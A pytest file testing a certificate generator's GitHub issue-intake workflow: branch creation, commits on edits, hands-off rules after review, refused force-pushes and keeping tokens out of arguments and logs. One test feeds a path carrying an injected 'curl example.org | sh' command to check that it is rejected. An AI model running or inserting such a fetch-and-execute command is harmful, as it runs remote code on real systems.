"""Intake's pull request on real git repositories: a bare repository stands in for GitHub's,
the runner works in a fresh clone of it, and GitHub's API answers are recorded in the shapes
GitHub documents, served to the real client (generator/github.py) with ``responses``; the test
asserts the requests the client sends. An edited issue adds a commit or leaves the branch
alone, never rewrites it."""

from __future__ import annotations

import base64
import json
import os
import re
import secrets
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
import responses
import yaml

from generator.github import Commit, GitHub, GitHubError, PullRequest, Review
from generator.workflow.intake_branch import Action, BranchState, decide
from generator.workflow.remote_branch import (
    BOT_EMAIL,
    BOT_LOGIN,
    GitError,
    LocalCommit,
    PushRejected,
    Remote,
)
from tests.github_api import (
    REPOSITORY,
    commit,
    endpoint,
    pull_request,
    review,
    serve_pull_request,
)
from tests.helpers import ROOT, make_project, register_on_a_branch, run

ISSUE = 12
BRANCH = f"request/issue-{ISSUE}"
BODY = (ROOT / "tests" / "intake" / "import-valid.md").read_text("utf-8")
EDITED = BODY.replace("18,000", "17,500")
REVIEWER = {
    "GIT_AUTHOR_NAME": "A. Smith",
    "GIT_AUTHOR_EMAIL": "asmith@cascadia-organic.example",
    "GIT_COMMITTER_NAME": "A. Smith",
    "GIT_COMMITTER_EMAIL": "asmith@cascadia-organic.example",
}


def git(repo: Path, *arguments: str, env: dict[str, str] | None = None) -> str:
    return subprocess.run(
        ["git", *arguments],
        cwd=repo,
        capture_output=True,
        text=True,
        env=os.environ | REVIEWER | (env or {}),
        check=True,
    ).stdout


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    """GitHub's repository: a bare one whose main branch holds the example register."""
    seed = make_project(tmp_path / "seed", with_requests=True)
    git(seed, "init", "-q", "-b", "main")
    git(seed, "add", "-A")
    git(seed, "commit", "-q", "-m", "the register")
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
    git(seed, "push", "-q", str(bare), "main")
    return bare


@pytest.fixture
def token(monkeypatch: pytest.MonkeyPatch) -> str:
    """A throwaway token, as the workflow gives it."""
    value = f"ghs_{secrets.token_hex(18)}"
    monkeypatch.setenv("GH_TOKEN", value)
    monkeypatch.setenv("GITHUB_REPOSITORY", REPOSITORY)
    monkeypatch.delenv("GITHUB_API_URL", raising=False)
    return value


def checkout(origin: Path, tmp_path: Path) -> Path:
    """A fresh clone, as actions/checkout makes one for each run."""
    target = tmp_path / f"runner-{secrets.token_hex(4)}"
    git(tmp_path, "clone", "-q", str(origin), str(target))
    return target


def tip(origin: Path, branch: str = BRANCH) -> str | None:
    listed = git(origin, "for-each-ref", "--format=%(objectname)", f"refs/heads/{branch}")
    return listed.strip() or None


def intake(runner: Path, body: str = BODY) -> tuple[int, str, str, str]:
    (runner.parent / "issue.md").write_text(body, "utf-8")
    comment = runner.parent / "comment.md"
    comment.unlink(missing_ok=True)
    code, out, err = run(
        [
            "intake",
            str(runner.parent / "issue.md"),
            "--kind",
            "import",
            "--by",
            "someoperator",
            "--base",
            "origin/main",
            "--comment",
            str(comment),
            "--issue",
            str(ISSUE),
        ],
        runner,
    )
    return code, out, err, comment.read_text("utf-8") if comment.exists() else ""


# --- GitHub's answers, in the shapes of docs.github.com/rest (tests/github_api.py) -------------


def pull(number: int, head_sha: str, state: str = "open") -> dict[str, Any]:
    return pull_request(number, BOT_LOGIN, head_sha, BRANCH, state)


def commits_of(origin: Path, logins: dict[str, str]) -> list[dict[str, Any]]:
    """The branch's commits as GitHub lists them: logins mapped from the commit addresses."""
    form = "%H%x1f%ae%x1f%B%x1e"
    listed = git(origin, "log", "--reverse", f"--format={form}", f"main..{BRANCH}")
    records = filter(None, (r.strip("\n") for r in listed.split("\x1e")))
    return [
        commit(sha, logins.get(email), message)
        for sha, email, message in (record.split("\x1f") for record in records)
    ]


LOGINS = {BOT_EMAIL: BOT_LOGIN, REVIEWER["GIT_AUTHOR_EMAIL"]: "asmith"}


@pytest.fixture
def api() -> Iterator[responses.RequestsMock]:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield mock


def serve(
    api: responses.RequestsMock,
    open_pulls: list[dict[str, Any]],
    closed: tuple[dict[str, Any], ...] | list[dict[str, Any]] = (),
    reviews: tuple[dict[str, Any], ...] | list[dict[str, Any]] = (),
    commits: tuple[dict[str, Any], ...] | list[dict[str, Any]] = (),
) -> None:
    """Answer the client's calls: the pull requests from the branch (open and closed), and
    for each open one its reviews and commits; opening a pull request, and commenting."""
    pulls = endpoint(f"/repos/{REPOSITORY}/pulls")

    def listing(request: Any) -> tuple[int, dict[str, str], str]:
        state = re.search(r"state=(\w+)", request.url)
        assert f"head=cascadia-organic%3A{BRANCH.replace('/', '%2F')}" in request.url
        found = open_pulls if state and state[1] == "open" else list(closed)
        return 200, {}, json.dumps(found)

    api.add_callback(responses.GET, pulls, callback=listing)
    api.post(pulls, json=pull(7, "f" * 40), status=201)
    for number in {p["number"] for p in open_pulls}:
        base = f"/repos/{REPOSITORY}/pulls/{number}"
        api.get(endpoint(f"{base}/reviews"), json=list(reviews))
        api.get(endpoint(f"{base}/commits"), json=list(commits))
        api.post(endpoint(f"/repos/{REPOSITORY}/issues/{number}/comments"), json={}, status=201)


def sent(api: responses.RequestsMock) -> list[str]:
    """The requests the client sent, as METHOD /path."""
    paths = []
    for call in api.calls:
        address = str(call.request.url)
        path = re.sub(r"https://api\.github\.com(?::443)?", "", address).split("?")[0]
        paths.append(f"{call.request.method} {path}")
    return paths


def posted(api: responses.RequestsMock, ending: str) -> list[dict[str, Any]]:
    return [
        json.loads(str(call.request.body))
        for call in api.calls
        if call.request.method == "POST" and str(call.request.url).endswith(ending)
    ]


def opened(origin: Path, tmp_path: Path, api: responses.RequestsMock) -> str:
    """Run intake once on a repository without the branch: the branch and its pull request
    are made; the branch's tip."""
    serve(api, [])
    code, out, err, _ = intake(checkout(origin, tmp_path))
    assert code == 0, out + err
    api.reset()
    made = tip(origin)
    assert made
    return made


# --- the scenarios -----------------------------------------------------------------------------


def test_a_new_request_gets_a_branch_from_the_base_and_a_pull_request(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    serve(api, [])
    code, out, err, comment = intake(checkout(origin, tmp_path))
    assert code == 0, out + err
    made = tip(origin)
    assert made and git(origin, "rev-parse", f"{made}^") == git(origin, "rev-parse", "main")
    log = git(origin, "log", "-1", "--format=%an <%ae>|%cn <%ce>|%s", made).strip()
    assert log == f"{BOT_LOGIN} <{BOT_EMAIL}>|{BOT_LOGIN} <{BOT_EMAIL}>|Request from issue #12"
    added = git(origin, "diff", "--name-status", "main", made).split()
    assert added[0] == "A" and re.fullmatch(r"requests/\d{4}/IC-\d{4}-0008\.yaml", added[1])
    request = yaml.safe_load(git(origin, "show", f"{made}:{added[1]}"))
    assert request["prepared_by"] == "github:someoperator"
    assert sent(api) == [
        f"GET /repos/{REPOSITORY}/pulls",
        f"GET /repos/{REPOSITORY}/pulls",
        f"POST /repos/{REPOSITORY}/pulls",
    ]
    [asked] = posted(api, "/pulls")
    assert asked["head"] == BRANCH and asked["base"] == "main"
    assert asked["title"].startswith("IC-") and "Closes #12." in asked["body"]
    assert "Pull request #7 adds it as" in comment
    assert token not in out + err + comment


def test_an_edit_before_review_adds_a_commit_on_top(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(api, [pull(7, first)], reviews=[], commits=commits_of(origin, LOGINS))
    code, out, err, comment = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0, out + err
    second = tip(origin)
    assert second and second != first
    assert git(origin, "rev-parse", f"{second}^").strip() == first  # on top, nothing rewritten
    path = git(origin, "diff", "--name-only", first, second).strip()
    assert Path(path).name in comment and "Pull request #7 adds it" in comment
    assert (
        yaml.safe_load(git(origin, "show", f"{second}:{path}"))["products"][0]["net_weight_kg"]
        == 17500
    )
    assert f"POST /repos/{REPOSITORY}/pulls" not in sent(api)  # the pull request exists
    assert token not in out + err


def test_an_edit_that_changes_nothing_adds_nothing(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(api, [pull(7, first)], commits=commits_of(origin, LOGINS))
    code, out, _, comment = intake(checkout(origin, tmp_path))  # requested_at would differ
    assert code == 0 and "unchanged" in out
    assert tip(origin) == first and "Pull request #7" in comment
    assert [s for s in sent(api) if s.startswith("POST")] == []


def test_changes_requested_still_lets_the_requester_fix_the_issue(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(
        api,
        [pull(7, first)],
        reviews=[review(80, "asmith", "CHANGES_REQUESTED", first)],
        commits=commits_of(origin, LOGINS),
    )
    assert intake(checkout(origin, tmp_path), EDITED)[0] == 0
    assert git(origin, "rev-parse", f"{tip(origin)}^").strip() == first


def test_an_approved_pull_request_is_never_touched(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(
        api,
        [pull(7, first)],
        reviews=[review(80, "asmith", "APPROVED", first)],
        commits=commits_of(origin, LOGINS),
    )
    code, out, err, comment = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0, out + err
    assert tip(origin) == first
    assert "asmith approved it" in out
    [note] = posted(api, "/issues/7/comments")
    assert "edited after the review of this pull request started" in note["body"]
    assert "never force-pushes" in note["body"]
    assert re.search(
        r"certgen intake issue\.md --kind import --by github:someoperator "
        r"--into requests/\d{4}/IC-\d{4}-0008\.yaml",
        note["body"],
    )
    assert "has started" in comment and "steps for the reviewer are on pull request #7" in comment
    assert "asmith" not in comment  # who reviewed, and their addresses, stay on the pull request
    assert f"POST /repos/{REPOSITORY}/pulls" not in sent(api)


def test_a_reviewers_issuance_commit_is_never_erased(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    opened(origin, tmp_path, api)
    desk = checkout(origin, tmp_path)  # the desk fills in a reference on the branch
    git(desk, "switch", "-q", BRANCH)
    request = next((desk / "requests").rglob("IC-*-0008.yaml"))
    request.write_text(request.read_text().replace("reference:\n", "reference: INV-5001\n", 1))
    git(desk, "commit", "-q", "-am", "Document references from the emailed documents")
    git(desk, "push", "-q", "origin", BRANCH)
    reviewed = tip(origin)
    assert reviewed
    serve(api, [pull(7, reviewed)], commits=commits_of(origin, LOGINS))
    code, out, _, comment = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0 and tip(origin) == reviewed
    assert f"commit {reviewed[:7]} is by asmith" in out
    assert "INV-5001" in git(origin, "show", f"{reviewed}:{request.relative_to(desk)}")
    assert len(posted(api, "/issues/7/comments")) == 1 and "has started" in comment


def test_a_commit_that_only_looks_like_intakes_is_seen_by_git(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    """GitHub maps a commit to a login by its address; git reads the address itself."""
    opened(origin, tmp_path, api)
    other = checkout(origin, tmp_path)
    git(other, "switch", "-q", BRANCH)
    (other / "notes.txt").write_text("changed")
    git(other, "add", "notes.txt")
    git(other, "commit", "-q", "-m", f"Request from issue #{ISSUE}")
    git(other, "push", "-q", "origin", BRANCH)
    moved = tip(origin)
    assert moved
    forged = {BOT_EMAIL: BOT_LOGIN, REVIEWER["GIT_AUTHOR_EMAIL"]: BOT_LOGIN}
    serve(api, [pull(7, moved)], commits=commits_of(origin, forged))
    code, out, _, _ = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0 and tip(origin) == moved
    assert "asmith@cascadia-organic.example" in out and "notes.txt" in out


def test_a_reviewers_branch_without_a_pull_request_gets_the_steps_on_the_issue(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    opened(origin, tmp_path, api)
    desk = checkout(origin, tmp_path)
    git(desk, "switch", "-q", BRANCH)
    request = next((desk / "requests").rglob("IC-*-0008.yaml"))
    request.write_text(request.read_text().replace("reference:\n", "reference: INV-5001\n", 1))
    git(desk, "commit", "-q", "-am", "Document references")
    git(desk, "push", "-q", "origin", BRANCH)
    reviewed = tip(origin)
    serve(api, [])
    code, _, _, comment = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0 and tip(origin) == reviewed
    assert f"--into {request.relative_to(desk)}" in comment
    assert [s for s in sent(api) if s.startswith("POST")] == []


def test_a_branch_changed_since_github_read_it_is_left_alone(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(api, [pull(7, "a" * 40)], commits=commits_of(origin, LOGINS))
    code, out, _, _ = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0 and tip(origin) == first
    assert "its branch was changed" in out


def test_a_closed_pull_request_is_not_reused(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    git(origin, "branch", "-D", BRANCH)  # merged, and the branch deleted
    serve(api, [], closed=[pull(7, first, state="closed")])
    code, _, _, comment = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0 and tip(origin) is None
    assert "handled in pull request #7" in comment
    assert sent(api) == [f"GET /repos/{REPOSITORY}/pulls"] * 2


def test_a_branch_without_its_pull_request_gets_one(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    """A run that pushed but was cancelled before it opened the pull request."""
    first = opened(origin, tmp_path, api)
    serve(api, [])
    code, out, err, comment = intake(checkout(origin, tmp_path), EDITED)
    assert code == 0, out + err
    assert git(origin, "rev-parse", f"{tip(origin)}^").strip() == first
    assert len(posted(api, "/pulls")) == 1 and "Pull request #7" in comment


def test_an_edit_that_breaks_the_request_leaves_the_branch_as_it_was(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(api, [pull(7, first)], commits=commits_of(origin, LOGINS))
    code, _, _, comment = intake(checkout(origin, tmp_path), BODY.replace("Los Angeles", ""))
    assert code == 1 and tip(origin) == first
    assert "**Destination city**" in comment and "Pull request #7 keeps the request" in comment


def test_an_issue_that_changes_kind_is_left_to_a_reviewer(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    first = opened(origin, tmp_path, api)
    serve(api, [pull(7, first)], commits=commits_of(origin, LOGINS))
    body = (ROOT / "tests" / "intake" / "export-valid.md").read_text("utf-8")
    (tmp_path / "export.md").write_text(body)
    runner = checkout(origin, tmp_path)
    code, out, _ = run(
        [
            "intake",
            str(tmp_path / "export.md"),
            "--kind",
            "export",
            "--by",
            "someoperator",
            "--issue",
            str(ISSUE),
            "--base",
            "origin/main",
        ],
        runner,
    )
    assert code == 0 and tip(origin) == first and "export certificate" in out


def test_a_reviewer_takes_the_edit_with_intake_into(
    origin: Path, tmp_path: Path, api: responses.RequestsMock, token: str
) -> None:
    """The steps the hands-off note gives, run on a clone of the branch."""
    opened(origin, tmp_path, api)
    desk = checkout(origin, tmp_path)
    git(desk, "switch", "-q", BRANCH)
    request = next((desk / "requests").rglob("IC-*-0008.yaml"))
    before = request.read_text("utf-8")
    (tmp_path / "issue.md").write_text(BODY)
    into = ["--into", str(request.relative_to(desk))]
    arguments = [
        "intake",
        str(tmp_path / "issue.md"),
        "--kind",
        "import",
        "--by",
        "github:someoperator",
    ]
    assert run([*arguments, *into], desk)[0] == 0
    assert request.read_text("utf-8") == before  # the same request: the file is kept as is
    (tmp_path / "issue.md").write_text(EDITED)
    code, out, _ = run([*arguments, *into], desk)
    assert code == 0 and out.strip().endswith(request.name)
    changed = yaml.safe_load(request.read_text("utf-8"))
    assert changed["id"] == request.stem and changed["products"][0]["net_weight_kg"] == 17500
    assert (
        len(list((desk / "requests").rglob("IC-*.yaml")))
        == len(list((ROOT / "requests").rglob("IC-*.yaml"))) + 1
    )  # no second request file
    assert run([*arguments, "--into", "requests/nothing.yaml"], desk)[0] == 2


# --- the decision table, from what GitHub and git say ------------------------------------------

BASE, TIP = "b" * 40, "c" * 40
OWN = Commit(TIP, BOT_LOGIN, BOT_LOGIN, f"Request from issue #{ISSUE}")
OWN_LOCAL = LocalCommit(TIP, BOT_EMAIL, BOT_EMAIL, f"Request from issue #{ISSUE}\n")
OPEN = PullRequest(7, BOT_LOGIN, TIP, BRANCH, "main", "open")
ADDED = {"requests/2026/IC-2026-0008.yaml": "A"}


def state(**changes: Any) -> BranchState:
    values: dict[str, Any] = {
        "issue": ISSUE,
        "base": BASE,
        "tip": TIP,
        "pull": OPEN,
        "commits": (OWN,),
        "local": (OWN_LOCAL,),
        "changed": ADDED,
    }
    return BranchState(**(values | changes))


@pytest.mark.parametrize(
    ("changes", "action"),
    [
        ({"tip": None, "pull": None, "commits": (), "local": (), "changed": {}}, Action.CREATE),
        ({}, Action.EXTEND),
        ({"pull": None, "commits": ()}, Action.EXTEND),
        ({"reviews": (Review("asmith", "COMMENTED", TIP, None),)}, Action.EXTEND),
        ({"reviews": (Review("asmith", "APPROVED", BASE, None),)}, Action.HANDS_OFF),
        ({"reviews": (Review("asmith", "DISMISSED", TIP, None),)}, Action.HANDS_OFF),
        ({"commits": (OWN, Commit("d" * 40, "asmith", "asmith", "Issue"))}, Action.HANDS_OFF),
        ({"commits": (Commit(TIP, None, None, OWN.message),)}, Action.HANDS_OFF),
        (
            {"commits": (Commit(TIP, BOT_LOGIN, BOT_LOGIN, "Request from issue #123"),)},
            Action.HANDS_OFF,
        ),
        ({"local": (LocalCommit(TIP, "a@b.example", BOT_EMAIL, OWN.message),)}, Action.HANDS_OFF),
        ({"tip": "e" * 40}, Action.HANDS_OFF),
        ({"tip": None}, Action.HANDS_OFF),
        ({"changed": ADDED | {"data/certifier.yaml": "M"}}, Action.HANDS_OFF),
        ({"changed": ADDED | {"requests/2026/IC-2026-0009.yaml": "A"}}, Action.HANDS_OFF),
        ({"changed": {}}, Action.HANDS_OFF),
        ({"pull": None, "closed": (OPEN,), "commits": ()}, Action.HANDLED),
    ],
)
def test_the_decision_table(changes: dict[str, Any], action: Action) -> None:
    decision = decide(state(**changes))
    assert decision.action is action
    assert bool(decision.reasons) == (action is Action.HANDS_OFF)


def test_a_path_that_is_not_a_request_never_reaches_the_reviewers_steps() -> None:
    hostile = {"requests/x.yaml; curl example.org | sh": "A"}
    decision = decide(state(changed=hostile))
    assert decision.action is Action.HANDS_OFF and decision.request is None


# --- git without force, and the token never in an argument, an address or a message -----------


def test_a_push_onto_a_branch_that_moved_is_refused_not_forced(
    origin: Path, tmp_path: Path
) -> None:
    runner = checkout(origin, tmp_path)
    remote = Remote(runner, "origin", token=f"ghs_{secrets.token_hex(8)}")
    base = remote.fetch("main")
    first = remote.commit_file(base, "requests/a.yaml", "a: 1\n", "Request from issue #12")
    assert first and remote.commit_file(first, "requests/a.yaml", "a: 1\n", "again") is None
    remote.push(first, BRANCH)
    stale = remote.commit_file(base, "requests/a.yaml", "a: 2\n", "Request from issue #12")
    assert stale
    with pytest.raises(PushRejected) as refused:
        remote.push(stale, BRANCH)
    assert tip(origin) == first
    assert remote.token and remote.token not in str(refused.value)


class _Recorder(BaseHTTPRequestHandler):
    seen: ClassVar[list[str | None]] = []

    def do_GET(self) -> None:
        self.seen.append(self.headers.get("Authorization"))
        self.send_response(403)
        self.end_headers()

    def log_message(self, *arguments: Any) -> None:
        pass


@pytest.mark.parametrize("scoped", [True, False])
def test_the_token_goes_only_as_a_header_to_its_server(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scoped: bool
) -> None:
    """A real HTTP remote (a local server that refuses): git sends the token as a header
    to the server it is meant for, nowhere else, and no argument or message holds it."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_address[1]}/"
    _Recorder.seen = []
    repo = tmp_path / "runner"
    git(tmp_path, "init", "-q", str(repo))
    git(repo, "remote", "add", "origin", f"{address}{REPOSITORY}.git")
    argv_log = tmp_path / "argv.log"
    wrapper = tmp_path / "bin" / "git"
    wrapper.parent.mkdir()
    real = subprocess.run(["which", "git"], capture_output=True, text=True).stdout.strip()
    wrapper.write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> {argv_log}\nexec {real} "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrapper.parent}{os.pathsep}{os.environ['PATH']}")
    secret = f"ghs_{secrets.token_hex(18)}"
    remote = Remote(repo, "origin", secret, address if scoped else "https://github.com/")
    try:
        with pytest.raises(GitError) as failed:
            remote.tip(BRANCH)
    finally:
        server.shutdown()
    basic = base64.b64encode(f"x-access-token:{secret}".encode()).decode()
    assert _Recorder.seen and set(_Recorder.seen) == ({f"basic {basic}"} if scoped else {None})
    assert secret not in str(failed.value) and basic not in str(failed.value)
    assert secret not in argv_log.read_text() and basic not in argv_log.read_text()
    assert secret not in git(repo, "config", "--list")  # nothing written to the repository


# --- GitHub's answers not as documented: a GitHubError, never an unexpected failure -----------

HEAD = "d" * 40


def _malformed(
    case: str, head: str = HEAD
) -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]]]:
    """A pull request, its reviews and its commits, one value of them not as documented."""
    pull = pull_request(41, "mlopez-cascadia", head)
    reviews = [review(1, "asmith-cascadia", "APPROVED", head)]
    commits = [commit(head, "mlopez-cascadia")]
    if case in ("user", "head", "base"):
        pull[case] = None
    elif case == "pull login":
        pull["user"]["login"] = 12345
    elif case == "review login":
        reviews[0]["user"]["login"] = 12345
    elif case == "commit login":
        commits[0]["author"]["login"] = ["x"]
    elif case == "commit sha":
        commits[0]["sha"] = None
    return pull, reviews, commits


CASES = {  # what the client was asked for when the answer was not as documented
    "user": "pull request #41",
    "head": "pull request #41",
    "base": "pull request #41",
    "pull login": "pull request #41",
    "review login": "the reviews of pull request #41",
    "commit login": "the commits of pull request #41",
    "commit sha": "the commits of pull request #41",
}


@pytest.mark.parametrize("case", CASES)
def test_an_answer_not_as_documented_is_a_github_error(case: str, token: str) -> None:
    pull, reviews, commits = _malformed(case)
    client = GitHub.from_environment()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        serve_pull_request(mock, pull, reviews, commits)
        mock.get(endpoint(f"/repos/{REPOSITORY}/pulls"), json=[pull])
        with pytest.raises(GitHubError) as failed:
            client.pull_request(41)
            client.reviews(41)
            client.commits(41)
        if case in ("user", "head", "base", "pull login"):
            with pytest.raises(GitHubError):
                client.pull_requests_from(BRANCH)
    assert f"GitHub's answer for {CASES[case]} in {REPOSITORY} was not as documented (" in str(
        failed.value
    )
    assert token not in str(failed.value)


@pytest.mark.parametrize("case", ["user", "head", "review login"])
def test_certgen_approvals_reports_an_answer_not_as_documented(
    tmp_path: Path, case: str, token: str
) -> None:
    repo = register_on_a_branch(tmp_path / "repo")
    pull, reviews, commits = _malformed(case, git(repo, "rev-parse", "HEAD").strip())
    arguments = ["approvals", "--pull-request", "41", "--base", "main"]
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        serve_pull_request(mock, pull, reviews, commits)
        code, out, err = run([*arguments, "--repository", REPOSITORY], repo)
    assert code == 3 and "unexpected" not in out + err
    assert (
        f"GitHub's answer for {'the reviews of ' if 'review' in case else ''}pull request #41"
        in err
    )
    assert "was not as documented" in err and token not in out + err
